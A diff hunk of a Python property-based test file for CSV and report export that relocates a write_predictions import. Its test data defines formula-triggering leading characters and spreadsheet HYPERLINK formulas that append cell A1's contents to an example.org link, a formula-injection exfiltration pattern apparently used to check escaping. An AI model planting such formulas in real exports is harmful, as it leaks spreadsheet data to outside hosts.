@@ -13,8 +13,8 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from parties.reports.page import Grid, Page, Section, to_csv
-from parties.runs.run_folder import write_predictions
 from parties.storage.csv_cells import as_text
+from parties.vertical.prediction_output import write_predictions
 
 BEGINNINGS = "=+-@\t\r\n＝＋－＠"
 FORMULAS = [f'{sign}HYPERLINK("http://example.org/"&A1,"more")' for sign in BEGINNINGS]
